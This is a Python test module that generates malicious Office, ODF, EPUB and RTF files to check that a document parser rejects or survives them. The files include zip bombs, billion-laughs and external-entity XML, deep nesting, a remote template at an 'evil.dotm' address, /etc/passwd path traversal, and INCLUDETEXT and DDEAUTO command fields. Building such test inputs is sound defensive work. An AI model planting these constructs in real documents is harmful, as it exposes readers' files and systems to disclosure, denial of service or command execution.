"""Office documents: parts that swell, sheets that claim the world, nests, loops, and locks."""

from collections.abc import Iterator

from penstock.errors import Encrypted, ResourceLimit, Suspicious, TooMuch, Unreadable
from tests.hostile.file import File, either, failed, ready
from tests.hostile.good import (
    REL,
    RELS,
    SHEET_NS,
    WORDS,
    Parts,
    book_parts,
    odf_parts,
    package,
    sheet_parts,
    slide_parts,
    word_parts,
)
from tests.hostile.markup import LAUGHS, OUTSIDE, QUADRATIC
from tests.hostile.pieces import MEGABYTE, zip_with_bomb

TOO_LARGE = (Suspicious, TooMuch, ResourceLimit)
TEXT = f"<w:p><w:r><w:t>{WORDS}</w:t></w:r></w:p>"


def files() -> Iterator[File]:
    yield from swelling_parts()
    yield from sheets()
    yield from words()
    yield from slides()
    yield from open_documents()
    yield from books()
    yield from rich_text()


def swollen(parts: Parts, name: str, block: str, megabytes: int = 200) -> bytes:
    """The package with one part replaced by, or with, so much of `block`."""
    whole = block.encode() * (MEGABYTE // len(block.encode()))
    return zip_with_bomb(((n, c.encode()) for n, c in parts.items() if n != name), name, whole, megabytes)


def swelling_parts() -> Iterator[File]:
    cells = '<row><c t="inlineStr"><is><t>a</t></is></c></row>'
    yield failed("docx-document-swells.docx", lambda: swollen(word_parts(), "word/document.xml", "<w:p/>"), *TOO_LARGE)
    yield failed(
        "xlsx-shared-strings-swell.xlsx",
        lambda: swollen(sheet_parts(), "xl/sharedStrings.xml", "<si><t>a</t></si>"),
        *TOO_LARGE,
    )
    yield failed(
        "xlsx-sheet-swells.xlsx", lambda: swollen(sheet_parts(), "xl/worksheets/sheet1.xml", cells, 150), *TOO_LARGE
    )
    yield either(
        "docx-picture-swells.docx", lambda: swollen(word_parts(), "word/media/image1.png", "\0", 200), *TOO_LARGE
    )
    yield failed(
        "pptx-slide-swells.pptx", lambda: swollen(slide_parts(), "ppt/slides/slide1.xml", "<a:p/>", 150), *TOO_LARGE
    )
    yield failed(
        "odt-content-swells.odt", lambda: swollen(odf_parts("text", ""), "content.xml", "<text:p/>", 150), *TOO_LARGE
    )
    yield failed("epub-chapter-swells.epub", lambda: swollen(book_parts(), "c.xhtml", "<p>a</p>", 150), *TOO_LARGE)


def sheets() -> Iterator[File]:
    first = '<row r="1"><c r="A1" t="inlineStr"><is><t>reservoir</t></is></c></row>'
    last = '<row r="1048576"><c r="XFD1048576"><v>7</v></c></row>'
    shared = '<row r="1"><c r="A1" t="s"><v>4000000000</v></c><c r="B1" t="s"><v>-1</v></c><c r="C1" t="s"><v>x</v></c></row>'
    long = "".join(f'<c t="inlineStr"><is><t>{n}</t></is></c>' for n in range(20_000))
    yield ready("xlsx-claims-the-whole-sheet.xlsx", lambda: package(sheet_parts(first, "A1:XFD1048576")))
    yield either("xlsx-two-cells-at-the-far-ends.xlsx", lambda: package(sheet_parts(first + last, "A1:XFD1048576")))
    yield either(
        "xlsx-cell-outside-of-the-sheet.xlsx",
        lambda: package(sheet_parts('<row r="4294967295"><c r="ZZZZZZZ4294967295"><v>7</v></c></row>')),
    )
    yield either("xlsx-strings-that-are-not-there.xlsx", lambda: package(sheet_parts(shared)))
    yield either("xlsx-20000-columns.xlsx", lambda: package(sheet_parts(f'<row r="1">{long}</row>')))
    merge = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    merged = sheet_parts(first) | {
        "xl/worksheets/sheet1.xml": f"<worksheet {SHEET_NS}><sheetData>{first}</sheetData>{merge}</worksheet>"
    }
    yield ready("xlsx-merged-into-one-cell.xlsx", lambda: package(merged))
    many = "".join(
        f'<sheet name="{n}" sheetId="{n + 1}" r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
        for n in range(10_000)
    )
    yield either(
        "xlsx-10000-sheets.xlsx",
        lambda: package(
            sheet_parts() | {"xl/workbook.xml": f"<workbook {SHEET_NS}><sheets>{many}</sheets></workbook>"}
        ),
    )


def words() -> Iterator[File]:
    def nested(depth: int) -> str:
        return "<w:tbl><w:tr><w:tc>" * depth + TEXT + "</w:tc></w:tr></w:tbl>" * depth

    def without(name: str) -> bytes:
        return package({part: content for part, content in word_parts().items() if part != name})

    outside = RELS % (
        REL % (1, "attachedTemplate", "http://192.0.2.1/evil.dotm") + REL % (2, "image", "../../../../../../etc/passwd")
    ).replace('"/>', '" TargetMode="External"/>')
    fields = "<w:p><w:r><w:instrText>INCLUDETEXT /etc/passwd</w:instrText></w:r>"
    fields += "<w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r></w:p>"
    yield either("docx-laughs.docx", lambda: package(word_parts("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", LAUGHS)))
    yield either(
        "docx-outside-entity.docx", lambda: package(word_parts(f"<w:p><w:r><w:t>&x;</w:t></w:r></w:p>{TEXT}", OUTSIDE))
    )
    yield either("docx-tables-in-tables-20000-deep.docx", lambda: package(word_parts(nested(20_000))))
    yield either("docx-tables-in-tables-200-deep.docx", lambda: package(word_parts(nested(200))))
    yield failed("docx-without-a-document.docx", lambda: without("word/document.xml"), Unreadable)
    yield either("docx-without-content-types.docx", lambda: without("[Content_Types].xml"))
    yield failed(
        "docx-with-half-a-tag.docx", lambda: package(word_parts() | {"word/document.xml": "<w:docu"}), Unreadable
    )
    yield ready(
        "docx-reaches-outside.docx",
        lambda: package(word_parts(TEXT + fields) | {"word/_rels/document.xml.rels": outside}),
    )
    yield either(
        "docx-refers-to-itself.docx",
        lambda: package(
            word_parts() | {"word/_rels/document.xml.rels": RELS % REL % (1, "subDocument", "document.xml")}
        ),
    )
    yield ready(
        "docx-with-control-characters.docx",
        lambda: package(word_parts(TEXT + "<w:p><w:r><w:t>&#x202e;\u200b\ufffe</w:t></w:r></w:p>")),
    )
    yield either(
        "docx-300000-runs.docx",
        lambda: package(word_parts("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 300_000 + "</w:p>")),
        *TOO_LARGE,
    )


def slides() -> Iterator[File]:
    loop = RELS % REL % (1, "slideLayout", "slide1.xml")
    group = "<p:grpSp>" * 20_000 + "</p:grpSp>" * 20_000
    deep = slide_parts()["ppt/slides/slide1.xml"].replace("<p:spTree>", "<p:spTree>" + group)
    yield either("pptx-one-slide-10000-times.pptx", lambda: package(slide_parts(slides=10_000)))
    yield either(
        "pptx-layout-is-the-slide.pptx", lambda: package(slide_parts() | {"ppt/slides/_rels/slide1.xml.rels": loop})
    )
    yield either("pptx-groups-in-groups.pptx", lambda: package(slide_parts() | {"ppt/slides/slide1.xml": deep}))
    yield either(
        "pptx-laughs.pptx", lambda: package(slide_parts() | {"ppt/slides/slide1.xml": LAUGHS + "<p:sld>&l9;</p:sld>"})
    )


def open_documents() -> Iterator[File]:
    locked = '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
    locked += '<manifest:algorithm manifest:algorithm-name="AES256-CBC"/></manifest:encryption-data>'
    cell = '<table:table table:name="t"><table:table-row%s><table:table-cell%s>'
    cell += "<text:p>reservoir</text:p></table:table-cell></table:table-row></table:table>"
    rows, columns = ' table:number-rows-repeated="1048576"', ' table:number-columns-repeated="%d"'
    paragraph = f"<text:p>{WORDS}</text:p>"
    span = "<text:span>" * 100_000 + "</text:span>" * 100_000
    frame = "<draw:page><draw:frame><draw:text-box>%s</draw:text-box></draw:frame></draw:page>"
    yield failed(
        "ods-encrypted.ods",
        lambda: package(odf_parts("spreadsheet", cell % ("", ""), locked=locked)),
        Encrypted,
        says="password",
    )
    yield failed(
        "odt-encrypted.odt", lambda: package(odf_parts("text", paragraph, locked=locked)), Encrypted, says="password"
    )
    yield either(
        "ods-one-cell-repeated-for-ever.ods", lambda: package(odf_parts("spreadsheet", cell % (rows, columns % 16_384)))
    )
    yield either(
        "ods-two-billion-columns.ods", lambda: package(odf_parts("spreadsheet", cell % ("", columns % (2**31 - 1))))
    )
    yield either(
        "odt-two-billion-spaces.odt",
        lambda: package(odf_parts("text", f'{paragraph}<text:p>a<text:s text:c="2000000000"/>b</text:p>')),
    )
    yield either("odt-laughs.odt", lambda: package(odf_parts("text", "<text:p>&l9;</text:p>", before=LAUGHS)))
    yield either("odt-spans-in-spans.odt", lambda: package(odf_parts("text", f"<text:p>{span}</text:p>")))
    yield either(
        "odp-laughs.odp", lambda: package(odf_parts("presentation", frame % "<text:p>&l9;</text:p>", before=LAUGHS))
    )
    yield either(
        "odp-quadratic.odp",
        lambda: package(odf_parts("presentation", frame % f"<text:p>{'&q;' * 20_000}</text:p>", before=QUADRATIC)),
    )
    yield either(
        "odp-outside-entity.odp",
        lambda: package(odf_parts("presentation", frame % "<text:p>&x;</text:p>", before=OUTSIDE)),
    )
    yield either(
        "odp-spans-in-spans.odp", lambda: package(odf_parts("presentation", frame % f"<text:p>{span}</text:p>"))
    )
    yield either(
        "odp-two-billion-spaces.odp",
        lambda: package(odf_parts("presentation", frame % '<text:p>a<text:s text:c="2000000000"/></text:p>')),
    )
    yield either(
        "odp-20000-slides.odp", lambda: package(odf_parts("presentation", frame % "<text:p>a</text:p>" * 20_000))
    )


def books() -> Iterator[File]:
    rights = '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
    rights += '<EncryptedData xmlns="http://www.w3.org/2001/04/xmlenc#">'
    rights += '<EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/>'
    rights += '<CipherData><CipherReference URI="c.xhtml"/></CipherData></EncryptedData></encryption>'
    outside = book_parts()["book.opf"].replace("c.xhtml", "../../../../etc/passwd")
    yield either("epub-one-chapter-50000-times.epub", lambda: package(book_parts(times=50_000)))
    yield failed(
        "epub-with-rights-management.epub",
        lambda: package(
            book_parts("\ufffd" * 50) | {"META-INF/encryption.xml": rights, "META-INF/rights.xml": "<rights/>"}
        ),
        Encrypted,
    )
    yield either("epub-chapter-outside.epub", lambda: package(book_parts() | {"book.opf": outside}))
    yield failed(
        "epub-without-a-package.epub",
        lambda: package({n: c for n, c in book_parts().items() if n != "book.opf"}),
        Unreadable,
    )
    yield either("epub-deep-chapter.epub", lambda: package(book_parts("<div>" * 300_000)))


def rich_text() -> Iterator[File]:
    def rtf(body: str) -> bytes:
        return (r"{\rtf1\ansi " + WORDS + body + "}").encode()

    yield either("rtf-groups-in-groups.rtf", lambda: rtf("{" * 300_000 + "a" + "}" * 300_000))
    yield either("rtf-groups-without-an-end.rtf", lambda: rtf("{" * 300_000))
    yield either("rtf-two-billion-binary-bytes.rtf", lambda: rtf(r"\bin2147483647 a"))
    yield either("rtf-negative-binary-bytes.rtf", lambda: rtf(r"\bin-5 a"))
    yield either("rtf-object-of-zeros.rtf", lambda: rtf(r"{\object\objemb{\*\objdata " + "00" * 150_000 + "}}"))
    yield either("rtf-100000-paragraphs.rtf", lambda: rtf(r"\par" * 100_000))
    yield either("rtf-endless-control-word.rtf", lambda: rtf("\\" + "a" * 200_000))
    yield ready("rtf-half-characters.rtf", lambda: rtf(r"\u-10179?\u99999999999999999999?\'zz\uc-1 "))
